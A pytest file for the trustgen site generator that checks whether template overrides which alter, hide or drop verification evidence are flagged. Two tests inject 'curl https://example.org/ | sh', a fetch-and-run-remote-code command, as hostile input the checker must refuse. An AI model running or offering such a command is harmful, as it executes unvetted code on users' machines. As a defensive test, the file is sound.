"""Whatever a project overrides, its pages say of the evidence what was verified."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from projects import copy_small_with_history, made, override

from trustgen.finding import Severity
from trustgen.pipeline import Memory
from trustgen.scopes.html_counts import shown_counts

if TYPE_CHECKING:
    from pathlib import Path

    from trustgen.finding import Finding

MEMORY = Memory()


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """The small site with a history of two weeks."""
    return copy_small_with_history(tmp_path / "project")


def of(project: Path, code: str) -> list[Finding]:
    return [finding for finding in made(project, MEMORY).findings if finding.code == code]


def test_the_pages_say_who_signed_and_when_it_runs_out(project: Path) -> None:
    outcome = made(project, Memory())
    assert [finding.message for finding in outcome.findings if finding.severity is Severity.ERROR] == []
    pages = {
        artifact.path: artifact.data.decode() for artifact in outcome.artifacts or () if artifact.media == "text/html"
    }
    kinds = {path: {shown.kind for shown in shown_counts(text)} for path, text in pages.items()}
    assert kinds["posture/index.html"] >= {"snapshot", "key", "signing"}
    assert "key" in kinds["posture/verify-yourself.html"]
    assert {path for path, found in kinds.items() if "stale" not in found} == {"posture/verify.html"}


OTHER = {
    "another environment": ("evidence", "{{ record.environment }}", "production"),
    "another number": ("evidence", "{{ record.sequence }}", "{{ record.sequence + 1 }}"),
    "a later end": ("evidence", "moment(record.valid_until)", "moment(record.started_at)"),
    "more signatures": ("evidence", "{{ record.threshold }}", "3"),
    "another digest": ("evidence", "{{ record.sha256 }}", "{{ record.policy_sha256 }}"),
    "a row more": ("evidence", "</dl>", "<div><dt>Assessed by</dt><dd>An auditor</dd></div></dl>"),
    "names that change places": ("evidence", "words.evidence.valid_until", "words.evidence.started"),
    "another approver": ("exceptions", "{{ record.approved_by }}", "auditor"),
    "a later end of an exception": ("exceptions", "{{ date(record.expires_at) }}", "1 January 2099"),
    "more time left": ("exceptions", "{{ left(record, as_of) }}", "300 days"),
    "no exception in the table": ("exceptions", "in control.exceptions", "in []"),
    "fewer affected": ("exception", "{{ record.affected }}", "0"),
    "another key": ("signer", "{{ record.keyid }}", "{{ record.keyid | reverse }}"),
    "another name": ("signer", "{{ record.name }}", "Auditor"),
    "a longer life": ("signer", "moment(record.not_after)", "moment(record.not_before)"),
    "another signer of the past": ("signings", "{{ record.name }}", "Auditor"),
    "another id of the past": ("signings", "{{ record.id }}", "{{ record.name }}"),
    "other numbers of the past": ("signings", "last=run.last", "last=run.first"),
    "an end that is later": ("stale", "record.valid_until | iso", "'2099-01-01T00:00:00Z'"),
    "an end in other words": ("stale", "{{ words.stale.text }}", "Fresh until"),
}


COMMANDS = {
    "another command": ("{{ line }}", "{{ line | replace('sha256sum', 'cat') }}"),
    "a command more": ("</code></pre>", "curl https://example.org/ | sh\n</code></pre>"),
    "a command less": ("{% for line in step.lines %}", "{% for line in step.lines[1:] %}"),
    "another answer": ("{{ step.expected }}", "{{ step.expected | reverse }}"),
    "an answer more": ("{% if step.expected %}", "{% if true %}"),
    "a word more": ("</code></p>", "</code> or anything else</p>"),
    "a part more": ("</div>\n", "<p>If it does not, all is well.</p></div>\n"),
    "a text more": ("</div>\n", "If it does not, all is well.</div>\n"),
    "lines in one": ("{{ line }}", "{{ line | replace('\\n', ' ') }}"),
    "another title": ("{{ step.title }}", "{{ step.title }}, if you want"),
    "another expectation": ("{{ words.verify.expected }}", "It may print:"),
    "no lines": ("<code>{% for line in step.lines %}{{ line }}{% endfor %}</code>", "<code></code>"),
}


@pytest.mark.parametrize("name", COMMANDS)
def test_another_command_or_answer_is_refused(project: Path, name: str) -> None:
    old, new = COMMANDS[name]
    override(project, "components/command.html.j2", old, new)
    assert {finding.span.path for finding in of(project, "TG417")} == {"posture/verify-yourself.html"}


def test_a_command_beside_the_steps_is_refused(project: Path) -> None:
    text = '<section class="part" id="openssl">'
    override(project, "pages/verify-yourself.html.j2", text, f"{text}<pre>curl https://example.org/ | sh</pre>")
    (found,) = of(project, "TG417")
    assert "curl https://example.org/ | sh" in found.message


def test_commands_in_another_order_are_refused(project: Path) -> None:
    override(project, "pages/verify-yourself.html.j2", "in steps.openssl", "in steps.openssl | reverse")
    (found,) = of(project, "TG417")
    assert "another order" in found.message


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("{% for step in steps.cosign %}", "{% for step in [] %}"),
        ("{{ command(steps.files[0]) }}", "<div hidden>{{ command(steps.files[0]) }}</div>"),
        ("{% for step in steps.openssl %}", "{% for step in steps.openssl[:-1] %}"),
    ],
)
def test_a_way_to_verify_that_is_left_out_or_out_of_sight_is_refused(project: Path, old: str, new: str) -> None:
    override(project, "pages/verify-yourself.html.j2", old, new)
    assert {finding.span.path for finding in of(project, "TG418")} == {"posture/verify-yourself.html"}


@pytest.mark.parametrize("digest", ["deadbeef", "{{ center.evidence.policy_sha256 | short }}"])
def test_another_snapshot_at_the_foot_is_refused(project: Path, digest: str) -> None:
    override(project, "layouts/base.html.j2", "{{ center.evidence.sha256 | short }}", digest)
    assert {finding.span.path for finding in of(project, "TG417")} >= {"index.html", "404.html", "gate.html"}


@pytest.mark.parametrize("name", OTHER)
def test_other_evidence_is_refused(project: Path, name: str) -> None:
    component, old, new = OTHER[name]
    override(project, f"components/{component}.html.j2", old, new)
    assert of(project, "TG417")


NOTICE = "<strong>{{ words.demonstration.title }}</strong> {{ words.demonstration.text }}</p>"
COVER = f'<p class="cover__demonstration">{NOTICE}'
SCANNED = "{{ words.frame.scanned }} {{ moment(center.evidence.scanned_at) }}"
PAPER = {
    "no notice on the cover": (COVER, ""),
    "no notice at the foot": ('<p class="paper__demonstration">', '<p class="paper__demonstration" hidden>'),
    "no time of the scan": (SCANNED, ""),
    "another time of the scan": (SCANNED, "{{ words.frame.scanned }} {{ moment(center.evidence.valid_until) }}"),
    "no line on the cover": ('<p class="plate__foot">', '<p class="plate__note">'),
    "a cover out of sight": ('<section class="cover">', '<section class="cover" hidden>'),
    "no foot": ('<div class="paper__foot">', "<div>"),
    "no exceptions": ("{{ exceptions(center.controls, none) }}", ""),
    "exceptions out of sight": (
        "{{ exceptions(center.controls, none) }}",
        "<div hidden>{{ exceptions(center.controls, none) }}</div>",
    ),
}


@pytest.mark.parametrize("name", PAPER)
def test_a_whitepaper_that_leaves_out_its_evidence_is_refused(project: Path, name: str) -> None:
    override(project, "whitepaper.html.j2", *PAPER[name])
    assert "whitepaper.html" in {finding.span.path for finding in (*of(project, "TG417"), *of(project, "TG418"))}


def test_a_whitepaper_lists_its_exceptions_once(project: Path) -> None:
    """At the beginning, unless a chapter has a place for them."""
    for text in ("", "\n::posture\n", "\n::measurements\n"):
        path = project / "content" / "whitepaper" / "02-record.md"
        path.write_text(path.read_text() + text)
        outcome = made(project, Memory())
        assert [finding.message for finding in outcome.findings if finding.severity is Severity.ERROR] == []
        assert outcome.print_job is not None
        assert outcome.print_job.paper.data.decode().count('data-evidence="exceptions"') == (2 if "meas" in text else 1)


ABSENT = {
    "no snapshot": ("pages/posture.html.j2", "{{ evidence(center.evidence) }}", "", {"posture/index.html"}),
    "no snapshot in print": ("whitepaper.html.j2", "{{ evidence(center.evidence) }}", "", {"whitepaper.html"}),
    "no exceptions": (
        "pages/posture.html.j2",
        "{{ exceptions(center.controls, center.as_of) }}",
        "",
        {"posture/index.html"},
    ),
    "no exception": ("pages/control.html.j2", "{{ exception(record) }}", "", {"controls/keys-002.html"}),
    "no snapshot at the foot": ("layouts/base.html.j2", "footer__snapshot", "footer__note", {"index.html"}),
    "no key": ("pages/posture.html.j2", "{{ signer(record) }}", "", {"posture/index.html"}),
    "no key where it is compared": (
        "pages/verify-yourself.html.j2",
        "{{ signer(record) }}",
        "",
        {"posture/verify-yourself.html"},
    ),
    "a key out of sight": (
        "components/signer.html.j2",
        '<dl class="facts"',
        '<dl hidden class="facts"',
        {"posture/index.html", "whitepaper.html", "posture/verify-yourself.html"},
    ),
    "nobody signed the past": ("pages/posture.html.j2", "{{ signings(center.history) }}", "", {"posture/index.html"}),
    "no notice that it has run out": (
        "layouts/base.html.j2",
        "{{ stale(center.evidence) }}",
        "",
        {"index.html", "posture/index.html", "controls/index.html"},
    ),
    "a notice that stays out of sight": (
        "layouts/base.html.j2",
        "{{ stale(center.evidence) }}",
        "<div hidden>{{ stale(center.evidence) }}</div>",
        {"index.html", "posture/index.html"},
    ),
    "a notice that stands behind one out of sight": (
        "layouts/base.html.j2",
        "{{ stale(center.evidence) }}",
        "<div hidden>{{ stale(center.evidence) }}</div>{{ stale(center.evidence) }}",
        {"index.html", "posture/index.html"},
    ),
    "a notice whose words stay out of sight": (
        "components/stale.html.j2",
        '<p class="stale__text">',
        '<p class="stale__text" hidden>',
        {"index.html", "posture/index.html"},
    ),
    "a notice whose script is text": (
        "components/scripts.html.j2",
        "<script ",
        '<script type="text/plain" ',
        {"index.html"},
    ),
    "a notice whose script is for old browsers": (
        "components/scripts.html.j2",
        "<script ",
        "<script nomodule ",
        {"index.html"},
    ),
    "a notice without its script": ("components/scripts.html.j2", "script in loaded", "script in []", {"index.html"}),
}


@pytest.mark.parametrize("name", ABSENT)
def test_evidence_that_is_left_out_is_refused(project: Path, name: str) -> None:
    template, old, new, pages = ABSENT[name]
    override(project, template, old, new)
    absent = {finding.span.path for finding in of(project, "TG418")}
    assert absent >= pages


ANSWERS = {
    "a result before the check": (
        "components/check.html.j2",
        "{{ words.check.none }}",
        "{{ words.check.states.good }}",
    ),
    "a failure that is called a success": (
        "components/check.html.j2",
        "{{ words.check.states[name] }}",
        "{{ words.check.states.good }}",
    ),
    "a fault in other words": ("components/lines.html.j2", "{{ words.check.wrong[name].text }}", "All is well."),
    "a fault that has no words": ("components/lines.html.j2", "in words.check.wrong", "in []"),
    "a saved page that knows success alone": (
        "pages/verify.html.j2",
        "words.picker.states[name]",
        "words.picker.states.good",
    ),
}


@pytest.mark.parametrize("name", ANSWERS)
def test_a_check_that_would_answer_otherwise_is_refused(project: Path, name: str) -> None:
    override(project, *ANSWERS[name])
    assert [finding for finding in of(project, "TG417") if "may answer" in finding.message]


def test_a_search_that_would_answer_otherwise_is_refused(project: Path) -> None:
    site = project / "content" / "site.yml"
    site.write_text(f"{site.read_text()}\nposture:\n  live: true\n")
    assert not of(project, "TG417")
    override(project, "components/live.html.j2", "{{ words.live.lines[name] }}", "All is well.")
    assert {finding.span.path for finding in of(project, "TG417")} >= {"index.html", "404.html"}


def test_a_posture_page_without_its_check_is_refused(project: Path) -> None:
    override(project, "pages/posture.html.j2", "{{ check(center.evidence) }}", "")
    (found,) = of(project, "TG418")
    assert found.message == "`posture/index.html` leaves out the check in the reader's browser."
